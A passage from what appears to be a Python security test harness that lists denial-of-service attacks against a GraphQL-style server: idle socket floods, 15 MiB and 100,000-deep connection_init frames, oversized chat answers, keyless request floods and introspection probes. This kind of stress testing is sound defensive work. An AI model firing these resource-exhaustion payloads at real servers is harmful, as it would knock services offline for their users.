            "50 sockets x 20 `memoryChanged`, 1,000 facts / 5 s, read",
            _subscriptions(reading=True),
        ),
        Attack(
            5,
            "subscriptions-silent",
            "the same, subscribers never read",
            _subscriptions(reading=False),
        ),
        Attack(
            6,
            "isoneof",
            "`isOneOf` of wrapped types, 30 aliases",
            _is_one_of,
            attacker="read-only key",
        ),
        Attack(
            7,
            "idle-sockets",
            "3,000 sockets never sending connection_init",
            _idle_sockets,
            server="public",
            attacker="no key",
        ),
        Attack(
            7,
            "keyless-requests",
            "control: 3,000 keyless POSTs a second (each client a second apart)",
            _keyless_requests,
            server="public",
            attacker="no key",
        ),
        Attack(
            8,
            "big-init",
            "connection_init frames of 15 MiB, 4 sockets",
            _init_frames(lambda: '"' + "a" * (15 * MIB - 64) + '"', 4),
            server="public",
            attacker="no key",
        ),
        Attack(
            8,
            "deep-init",
            "connection_init nested 100,000 deep, 4 sockets",
            _init_frames(lambda: "[" * 100_000 + "]" * 100_000, 4),
            server="public",
            attacker="no key",
        ),
        Attack(
            9, "huge-chat", "2 `reflect` at once, a 200 MB chat answer", _reflect(2), chat="huge"
        ),
        Attack(
            9,
            "deep-chat",
            "2 `reflect` at once, a chat answer nested 100,000 deep",
            _reflect(2),
            chat="deep",
        ),
        Attack(10, "space-query", "search / recall / MCP, 301 spaces first", _space_queries),
        Attack(0, "heaviest", "the heaviest accepted links document (cost 480,714)", _heaviest),
        Attack(
            1,
            "introspection-keyless",
            "row 1 on a server with no key: attacker and probe keyless",
            _introspection,
            server="keyless",
            attacker="no key",
        ),
    )
}
